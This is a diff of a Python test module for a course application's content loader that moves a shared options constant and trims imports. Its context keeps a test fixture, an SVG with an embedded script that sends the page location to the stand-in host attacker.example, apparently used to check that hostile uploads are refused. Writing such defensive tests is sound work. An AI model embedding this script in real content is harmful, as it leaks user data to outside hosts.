@@ -8,13 +8,12 @@ from pathlib import Path
 
 import pytest
 
-from course_app.addresses import ServerLinkStyle
-from course_app.content.loader import LoadOptions, load_catalogue
+from course_app.content.loader import load_catalogue
 from course_app.content.pdf import PdfRefused, check_pdf
+from tests.content.test_loader import OPTIONS
 from tests.factories import make_course, pdf_of
 from tests.test_cli import run_course_app
 
-OPTIONS = LoadOptions(languages=("en", "ru", "be"), link_style=ServerLinkStyle(neutral=False))
 SVG_WITH_SCRIPT = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                    '<script>fetch("https://attacker.example/?" + location)</script>'
                    '<image href="https://attacker.example/pixel.png" width="1" height="1"/></svg>')
